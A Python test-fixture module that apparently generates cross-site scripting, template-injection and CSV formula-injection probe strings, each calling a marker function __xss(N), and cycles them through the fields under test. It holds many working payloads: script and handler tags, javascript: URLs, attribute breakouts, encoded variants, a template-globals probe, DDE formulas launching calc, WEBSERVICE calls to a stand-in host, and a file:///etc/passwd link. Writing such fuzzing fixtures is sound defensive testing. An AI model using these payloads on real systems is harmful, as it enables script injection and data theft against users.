"""Texts that would run a script, were they taken for markup, an address, a template or a formula anywhere.

Each calls `__xss(N)`, which a test page defines; in a workbook or a CSV file it would be computed.
"""

import re
from math import ceil

_TEMPLATES = (
    # elements that run by themselves
    "<script>X</script>",
    "<SCRIPT>X</SCRIPT>",
    "<script >X</script >",
    "<script/x>X</script>",
    "<scr<script>ipt>X</script>",
    "<script>X",
    "<script>X//",
    "<<script>X//<</script>",
    "<script\n>X</script>",
    "<script src=data:,X></script>",
    "<script src=//other.invalid/x.js></script>",
    "<script type=module>X</script>",
    "<svg><script>X</script></svg>",
    "<svg><script href=data:,X /></svg>",
    "<math><mtext><script>X</script></mtext></math>",
    # handlers
    "<img src=x onerror=X>",
    "<img/src=x/onerror=X>",
    "<img src='x' onerror='X'>",
    '<img src="x" onerror="X">',
    "<IMG SRC=x ONERROR=X>",
    "<img src=x onerror=X//",
    "<img src=x:x onerror=X>",
    "<image src=x onerror=X>",
    "<img src=x oneonerrorrror=X>",
    "<img\nsrc=x\nonerror=X>",
    "<img srcset=x onerror=X>",
    "<svg onload=X>",
    "<svg/onload=X>",
    "<svg><animate onbegin=X attributeName=x dur=1s>",
    "<svg><set onbegin=X attributeName=x dur=1s>",
    "<svg><image href=x onerror=X></svg>",
    "<svg><a xlink:href=javascript:X><text>甲</text></a></svg>",
    "<svg><use href=data:image/svg+xml,<svg/onload=X>></svg>",
    "<body onload=X>",
    "<body onpageshow=X>",
    "<input autofocus onfocus=X>",
    "<select autofocus onfocus=X>",
    "<textarea autofocus onfocus=X>",
    "<button autofocus onfocus=X>甲</button>",
    "<a autofocus tabindex=0 onfocus=X>甲</a>",
    "<details open ontoggle=X>",
    "<video src=x onerror=X>",
    "<video><source onerror=X></video>",
    "<audio src=x onerror=X>",
    "<object data=x onerror=X>",
    "<object data=javascript:X>",
    "<embed src=javascript:X>",
    "<iframe onload=X>",
    "<iframe src=javascript:parent.X>",
    "<iframe srcdoc='<script>parent.X</script>'>",
    "<frameset onload=X>",
    "<marquee onstart=X>甲</marquee>",
    "<style onload=X></style>",
    "<link rel=stylesheet href=data:, onload=X>",
    "<p style=animation-name:x onanimationstart=X>甲",
    "<div onpointerover=X>甲</div>",
    "<xss contenteditable autofocus onfocus=X>甲</xss>",
    "<dialog open oncancel=X>",
    "<template><script>X</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=X>'>",
    # out of an attribute, an element, a comment, a script
    '"><script>X</script>',
    "'><script>X</script>",
    '"><img src=x onerror=X>',
    "'><img src=x onerror=X>",
    '" autofocus onfocus="X',
    "' autofocus onfocus='X",
    '" onpointerover="X" x="',
    "` onerror=X `",
    '"/onfocus=X/autofocus/x="',
    "</script><script>X</script>",
    "</script><img src=x onerror=X>",
    "</title><script>X</script>",
    "</style><script>X</script>",
    "</textarea><script>X</script>",
    "</template><script>X</script>",
    "</noscript><script>X</script>",
    "--><script>X</script>",
    "--!><img src=x onerror=X>",
    "<!--><script>X</script>-->",
    "<!-- --!><script>X</script>",
    "]]><script>X</script>",
    "<![CDATA[<script>X</script>]]>",
    "<?xml-stylesheet href=javascript:X?>",
    "</td></tr></table><script>X</script>",
    "</text></svg><script>X</script>",
    "<!DOCTYPE x [<!ENTITY y '<script>X</script>'>]>",
    # addresses
    "javascript:X",
    "JaVaScRiPt:X",
    "javascript://%0aX",
    "java&#10;script:X",
    "data:text/html,<script>X</script>",
    "<a href=javascript:X>甲</a>",
    "<a href='java\tscript:X'>甲</a>",
    "<a href=&#106;avascript:X>甲</a>",
    "<form action=javascript:X><button>甲</button></form>",
    "<button formaction=javascript:X>甲</button>",
    "<meta http-equiv=refresh content='0;url=javascript:X'>",
    "<base href=https://other.invalid/>",
    "<link rel=import href=https://other.invalid/>",
    "[甲](javascript:X)",
    '![甲](x"onerror="X)',
    "<javascript:X>",
    "[甲]: javascript:X",
    '[甲](<javascript:X> "乙")',
    "![甲][x]{: onerror=X }",
    "甲{: onclick=X #y .z }",
    "# 甲 {onclick=X}",
    # twice read
    "&lt;script&gt;X&lt;/script&gt;",
    "&#60;script&#62;X&#60;/script&#62;",
    "&amp;lt;script&amp;gt;X",
    "%3Cscript%3EX%3C/script%3E",
    "\\u003cscript\\u003eX\\u003c/script\\u003e",
    "\\x3cscript\\x3eX",
    "＜script＞X＜/script＞",
    "+ADw-script+AD4-X+ADw-/script+AD4-",
    # templates and expressions
    "{{ X }}",
    "{{constructor.constructor('X')()}}",
    "{% raw %}X{% endraw %}",
    "${X}",
    "#{X}",
    "<%= X %>",
    "`${X}`",
    "{{ config.__class__.__init__.__globals__ }}",
    "datum['constructor']['constructor']('X')()",
    "';X;'",
    '";X;"',
    "\\';X;//",
    # formulas
    '=HYPERLINK("https://other.invalid/?X")',
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-1+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    '=WEBSERVICE("https://other.invalid/")',
    "%0A=1+1",
    "|=1+1",
    ";=1+1",
)

#: the vectors; number N calls `__xss(N)`.
VECTORS = tuple(text.replace("X", f"__xss({number})") for number, text in enumerate(_TEMPLATES))
#: what does its harm at the beginning only: of an address, of a cell, of a line of Markdown.
_BEGINNING = re.compile(r"java|data:|[=+\-@|;#\[!]|\s|%0a|[甲乙] ?\{", re.IGNORECASE)
#: numbers of the vectors that must begin a text, and of the others.
LEADING = tuple(number for number, text in enumerate(VECTORS) if _BEGINNING.match(text))
OTHERS = tuple(number for number in range(len(VECTORS)) if number not in LEADING)
#: how many of the others stand behind the one that begins a text.
BESIDE = 3
#: after so many rounds each place held every vector, and began with every one that must begin a text.
ROUNDS = max(len(LEADING), ceil(len(OTHERS) / BESIDE))
#: addresses that would run, for fields that hold an address.
LINKS = (
    "javascript:__xss(900)",
    "JavaScript:__xss(901)",
    " javascript:__xss(902)",
    "data:text/html,<script>__xss(903)</script>",
    "vbscript:__xss(904)",
    "//other.invalid/",
    "\\\\other.invalid\\",
    'https://example.invalid/" onfocus=__xss(905) autofocus x="',
    "javascript&colon;__xss(906)",
    "file:///etc/passwd",
)


class Picker:
    """Hands out the texts of one round: a vector that must begin a text, and others behind it.

    The text of a place is another one in each round; after `ROUNDS` of them each place held every vector.

    Attributes:
        last: numbers of the vectors of the text handed out last, in order.
    """

    def __init__(self, number: int = 0) -> None:
        """Begin the round of this number."""
        self.round, self._place, self._links = number, number, number
        self.last: tuple[int, ...] = ()

    def __call__(self) -> str:
        """Return the next text."""
        behind = (OTHERS[(self._place * BESIDE + more) % len(OTHERS)] for more in range(BESIDE))
        self.last = (LEADING[self._place % len(LEADING)], *behind)
        self._place += 1
        return " ".join(VECTORS[number] for number in self.last)

    def key(self) -> str:
        """Return the next text as the key of a mapping: on one line, as plain YAML writes it."""
        return " ".join(self().split())

    def link(self) -> str:
        """Return the next address that would run."""
        self._links += 1
        return LINKS[self._links % len(LINKS)]
